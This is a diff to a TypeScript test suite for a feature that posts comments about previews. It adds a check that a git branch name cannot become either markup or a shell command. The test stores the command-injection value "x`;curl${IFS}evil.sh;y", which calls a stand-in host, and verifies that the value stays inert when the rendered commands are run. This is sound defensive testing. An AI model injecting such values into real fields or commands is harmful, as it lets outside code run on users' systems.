@@ -6,6 +6,7 @@ import { testBuild, testDeployment, testProject } from "../../../test/support/fi
 import { platformBeside } from "../../../test/support/platform-double.ts";
 import { sharedApi, testOrganization } from "../../../test/support/test-platform.ts";
 import { queueComment, receiveHook, sealFollow, type Hook } from "../../features/follow/follow.ts";
+import { runOk } from "../../kit/exec.ts";
 import { newId } from "../../kit/ids.ts";
 import type { OutgoingOutcome, OutgoingRequest } from "../../ports/outgoing-http.ts";
 import { previewCommentsTask } from "./preview-comments-task.ts";
@@ -267,7 +268,7 @@ describe("the comment about a preview", () => {
     assert.equal(s.host.own().length, 1);
   });
 
-  test("a branch's name cannot become markup", async () => {
+  test("a branch's name becomes neither markup nor a command", async () => {
     const s = await scene("github");
     await s.db.updateTable("project").set({ git_branch: "a`|@all" }).where("id", "=", s.preview.id).execute();
     const { rows } = await sql<{ id: string }>`select id from project where id = ${s.preview.id}`.execute(s.db);
@@ -275,5 +276,14 @@ describe("the comment about a preview", () => {
     const path = `/v1/projects/${s.parent.slug}/previews/${s.preview.slug}/comment`;
     const { body } = await api.call("GET", path, { token: s.org.member });
     assert.match(String(body["text"]), /`a'\\\|@all`/);
+    const evil = "x`;curl${IFS}evil.sh;y";
+    await s.db.updateTable("project").set({ git_branch: evil }).where("id", "=", s.preview.id).execute();
+    const { text } = (await api.call("GET", path, { token: s.org.member })).body as { text: string };
+    const commands = [...text.matchAll(/`berth [^`]+`/g)].map(([command]) => command.slice(1, -1));
+    assert.equal(commands.length, 2);
+    for (const command of commands) {
+      const { stdout } = await runOk({ file: "sh", args: ["-c", command.replace(/^berth/, "printf '%s\\n'")] });
+      assert.ok(stdout.split("\n").includes("x';curl${IFS}evil.sh;y"), command);
+    }
   });
 });
